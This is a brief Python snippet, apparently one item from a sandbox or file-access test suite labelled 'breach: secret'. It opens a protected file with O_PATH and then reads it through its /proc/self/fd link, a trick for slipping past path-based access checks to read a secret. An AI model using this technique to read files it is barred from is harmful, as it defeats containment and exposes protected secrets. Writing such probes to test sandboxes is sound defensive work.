# os.open with O_PATH, then the descriptor's link in /proc.
# breach: secret
import os
number = os.open(SECRET_FILE, os.O_PATH)
with open(f"/proc/self/fd/{number}") as file:
    text = file.read()
os.close(number)
text
